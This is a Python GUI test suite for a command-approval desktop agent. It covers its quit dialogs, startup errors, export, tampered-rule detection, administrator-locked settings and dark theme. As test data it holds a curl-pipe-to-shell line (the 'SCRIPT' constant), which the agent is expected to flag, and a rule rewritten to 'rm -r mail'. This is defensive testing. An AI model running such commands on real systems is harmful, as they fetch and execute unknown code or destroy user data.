#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""What the owner of the real cometa-agent sees only now and then: the questions that it asks, what did
not work, an export, rules that somebody else changed, settings that the administrator has locked, and
all of it in dark colours. --shots DIR keeps a picture of each; docs/screenshots holds some of them.

--language de and --screen 800x600 show them so.
"""

import base64
import csv
import os
import pty
from pathlib import Path

from agentcase import WINDOW, options
from screenscase import ScreensCase, run
from xsession import poll

SCRIPT = "tar -xf backup.tar -C /home/anna\ncurl -s https://x.example/i.sh | sh"
LOCKED = "[locked]\napprove = rules\nautomatic-runs = 5\ntrust-plaintext = no\n"
# The colours of a desktop with a dark theme, where Qt itself looks for KDE's.
DARK = """[General]
ColorScheme=Dark
[Colors:Window]
BackgroundNormal=42,46,50
ForegroundNormal=252,252,252
[Colors:View]
BackgroundNormal=27,30,32
BackgroundAlternate=35,38,41
ForegroundNormal=252,252,252
ForegroundInactive=161,169,177
ForegroundLink=29,153,243
ForegroundVisited=155,89,182
[Colors:Button]
BackgroundNormal=49,54,59
ForegroundNormal=252,252,252
[Colors:Selection]
BackgroundNormal=61,174,233
ForegroundNormal=252,252,252
[Colors:Tooltip]
BackgroundNormal=49,54,59
ForegroundNormal=252,252,252
"""


class QuestionCase(ScreensCase):
    def box(self):
        """What a box over the main window says; it shares its title."""
        nodes = self.reader.nodes(WINDOW[1:-1])
        tops = [node["path"] for node in nodes if node["role"] == "alert"]
        return [node for node in nodes if node["path"][:2] in tops]

    def see_box(self, name, *sources):
        """A box says this, and all that it says has its place in it."""
        for source in sources:
            begins = tuple(words.split("%1")[0] for words in self.words.all(source))
            poll(lambda: any(begin in node["name"] for node in self.box() for begin in begins), 20,
                 "“%s” in %s" % (source, name))
        box = self.box()
        left, top, width, height = box[0]["box"]
        for x, y, w, h in [node["box"] for node in box if node["name"]]:
            self.assertTrue(left <= x and top <= y and x + w <= left + width and y + h <= top + height, name)
        self.assertTrue(left >= 0 and top >= 0, name)
        self.front(self.session.windows(WINDOW)[-1])
        self.wait(0.3)  # until it is painted
        self.shot(name, self.session.active())


class QuitTest(QuestionCase):
    def test_quit(self):
        agent, link, window = self.attached_agent()
        self.approve(link, "sleep 60", replies=False)
        for number in range(2):
            link.message({"cmd": "uptime %d" % number})
        self.put_off()
        self.press_until("ctrl+q", self.box, "the question", every=1)
        self.see_box("question-quit", "Quit Cometa Agent?", "A running command will be stopped.",
                     "%1 commands that wait for you will not be run.")
        self.key("Return")  # is for Cancel
        poll(lambda: not self.box(), 10, "no question")
        self.assertEqual(sorted(state for _, state in self.states()),
                         ["awaiting-approval", "awaiting-approval", "running"])
        self.press_until("ctrl+q", self.box, "the question", every=1)
        self.press_until(self.words.key("&Quit", "Questions"), lambda: agent.poll() is not None, "the end",
                         every=1)
        self.assertEqual(agent.returncode, 0)

    def test_without_a_panel_closing_the_window_asks(self):
        agent, link, window = self.attached_agent()
        self.approve(link, "sleep 60", replies=False)
        self.session.stop([child for child in self.session.children if child.args[0] == "trayer"][-1])
        self.front(window)
        self.press_until("alt+F4", self.box, "the question", every=1.5)
        self.see_box("question-close", "Quit Cometa Agent?", "A running command will be stopped.")
        self.key("Escape")
        poll(lambda: not self.box(), 10, "no question")
        self.assertIsNone(agent.poll())
        self.assertTrue(self.session.windows(WINDOW), "nothing is left to reach the agent by")


class CannotStartTest(QuestionCase):
    """Started from a menu, where nobody reads standard error."""

    def setUp(self):
        super().setUp()
        self.session.env["LANGUAGE"] = options.language  # whatever the settings say cannot be read
        self.errors = self.session.path / "agent.log"

    def see_reason(self, agent, code, name, *words):
        window = self.session.window(WINDOW, timeout=20)
        self.see_box(name, "Cometa Agent cannot start.")
        said = " ".join(node["name"] for node in self.box())
        for word in words:
            self.assertIn(word, said)
        self.assertEqual(self.session.windows(WINDOW), [window])  # nothing else
        self.press_until("Return", lambda: agent.poll() is not None, "the end", every=1)
        self.assertEqual(agent.returncode, code)
        lines = [line for line in self.errors.read_text().splitlines() if line.startswith("cometa-agent: ")]
        self.assertEqual(len(lines), 1, lines)
        for word in words:
            self.assertIn(word, lines[0])

    def wrong_file(self):
        folder = Path(self.session.env["XDG_CONFIG_HOME"]) / "cometa-agent"
        folder.mkdir()
        (folder / "agent.conf").write_text("server = 127.0.0.1\nsevrer = <b>x</b>\n")

    def test_an_unknown_name_in_the_file(self):
        self.wrong_file()
        agent = self.start_agent("--minimised")
        self.see_reason(agent, 2, "cannot-start", "cometa-agent/agent.conf", "2, sevrer")

    def test_a_directory_that_is_a_file(self):
        blocker = self.session.path / "blocker"
        blocker.write_text("")
        agent = self.start_agent("--server", "127.0.0.1", "--app", "ops", "--data-dir", str(blocker))
        self.see_reason(agent, 1, "cannot-start-directory", str(blocker))

    def test_a_terminal_is_enough(self):
        self.wrong_file()
        ours, its = pty.openpty()
        self.addCleanup(os.close, ours)
        agent = self.session.start([str(options.bin / "cometa-agent")], stderr=its)
        os.close(its)
        self.assertEqual(agent.wait(20), 2)
        self.assertIn(b"sevrer", os.read(ours, 4096))


class ExportTest(QuestionCase):
    def export_to(self, path, name):
        title = self.words.text("Export requests")
        self.press_until(self.words.key("E&xport…", "FilterBar"), lambda: self.session.windows(title),
                         "the choice of a file", every=1.5)
        dialog = self.session.window(title)
        self.front(dialog)
        poll(lambda: "cometa-requests.csv" in self.reader.texts(title), 10, "a name for the file")
        self.see(name, dialog, "Table, for spreadsheets (*.csv)", title=title)
        self.key("ctrl+a")
        self.session.xdotool("type", str(path))
        poll(lambda: str(path) in self.reader.texts(title), 10, "the path")
        self.press_until("Return", lambda: not self.session.windows(title), "the file chosen", every=1)

    def test_export(self):
        _, link, window = self.attached_agent()
        for command in ("df -h", "ls --no-such-option"):
            self.approve(link, command)
        self.front(window)
        target = self.home / "requests.csv"
        self.export_to(target, "export-file")
        self.see("export-done", window, "%1 requests were exported to %2.", "&Hide")
        with open(target, newline="") as file:
            self.assertEqual(len(list(csv.reader(file))), 3)
        self.press("&Hide")
        poll(lambda: not self.says("&Hide"), 10, "no bar")


class ChangedRulesTest(QuestionCase):
    def make_rule(self, link, command):
        """One that is kept, by “Always”."""
        title = self.words.text("Rule – Cometa Agent")
        self.request(link, command)
        self.press_until(self.words.key("Al&ways…"), lambda: self.session.windows(title), "the rule", every=1)
        self.front(self.session.window(title))
        self.press("&In force:")
        self.key("End")
        poll(lambda: self.says("Until I remove it", title), 10, "a rule for good")
        self.press_until(self.words.key("Make rule and &run it now"), lambda: link.replies, "the rule made",
                         every=0.8)

    def test_rules_that_something_else_changed(self):
        _, link, window = self.attached_agent()
        self.make_rule(link, "df -h")
        path = poll(lambda: list(Path(self.session.env["XDG_DATA_HOME"]).rglob("rules*")), 10, "the file")[0]
        rules = path.read_text()
        path.write_text(rules.replace(base64.b64encode(b"df -h").decode(),
                                      base64.b64encode(b"rm -r mail").decode()))
        self.assertNotEqual(path.read_text(), rules)
        self.front(window)
        self.press("Ru&les")
        self.tab_to(self.words.text("Rules"))
        self.key("Down", "Home")
        self.press_until(self.words.key("Re&move", "RuleView"), self.box, "what did not work", every=1)
        self.see_box("did-not-work", "That did not work.",
                     "The rules in %1 were changed by something else than this agent and are not used: "
                     "look at them in the window, under Rules, or with cometactl rules trust.")
        self.key("Escape")
        poll(lambda: not self.box(), 10, "no box")
        self.front(window)
        self.see("rules-changed", window, "Use t&hese rules", "Throw them awa&y")
        self.press_until(self.words.key("Throw them awa&y"), lambda: not path.exists(), "the rules gone", every=1)


class LockedTest(QuestionCase):
    def test_locked_by_the_administrator(self):
        folder = self.session.path / "xdg/cometa-agent"
        folder.mkdir(parents=True)
        (folder / "agent.conf").write_text(LOCKED)
        self.session.env["XDG_CONFIG_DIRS"] = str(folder.parent)
        self.attached_agent()
        title = self.words.text("Settings – Cometa Agent")
        self.press_until(self.words.key("Se&ttings…"), lambda: self.session.windows(title), "settings", every=1)
        dialog = self.session.window(title)
        self.front(dialog)
        self.tab_to(self.words.text("Pages"), title)
        page = self.words.text("Approval")
        self.press_until("Down", lambda: page in self.reader.focus(title), "the page", every=1)
        self.see("settings-locked", dialog, "Set by your administrator.")
        nodes = self.reader.nodes(title)
        locked = {(node["labels"] + [node["name"]])[0] for node in nodes
                  if node["role"] in ("combo box", "text", "check box") and "enabled" not in node["states"]}
        self.assertEqual(locked, {self.words.text(label, "SettingSpec") for label in (
            "&Commands", "&Run by rule", "Run by rule without e&ncryption, too")})
        # Their values can be read: what is off is 190 as a rule.
        for choice in (node["box"] for node in nodes if node["role"] == "combo box"):
            self.assertLess(min(map(max, self.session.pixels(choice))), 128)


class DarkTest(QuestionCase):
    """The colours of a desktop's dark theme."""

    def setUp(self):
        super().setUp()
        (Path(self.session.env["XDG_CONFIG_HOME"]) / "kdeglobals").write_text(DARK)
        self.session.env.update({"QT_QPA_PLATFORMTHEME": "kde", "KDE_SESSION_VERSION": "5"})

    def see_dark(self, name, window, *sources):
        """Most of it is dark, and the letters are not."""
        self.see(name, window, *sources)
        title = self.session.xdotool("getwindowname", window)
        pixels = self.session.pixels(self.reader.nodes(title)[0]["box"])
        lights = sorted(map(max, pixels))
        self.assertLess(lights[len(lights) * 9 // 10], 96, name)
        self.assertGreater(lights[len(lights) * 99 // 100], 192, name)

    def test_dark(self):
        _, link, window = self.attached_agent()
        self.approve(link, "df -h")
        self.approve(link, "ls --no-such-option")
        prompt = self.request(link, SCRIPT, reason="restore after disk change, ticket 4711")
        self.see_dark("dark-prompt", prompt, "feeds a shell from the network")
        self.put_off()
        self.select_newest()
        self.key("Down")
        self.see_dark("dark-window", window, "Waiting for you", "&Output")
        self.press("Se&ttings…")
        self.see_dark("dark-settings", self.session.window(self.words.text("Settings – Cometa Agent")), "&Port")


if __name__ == "__main__":
    run(__doc__)
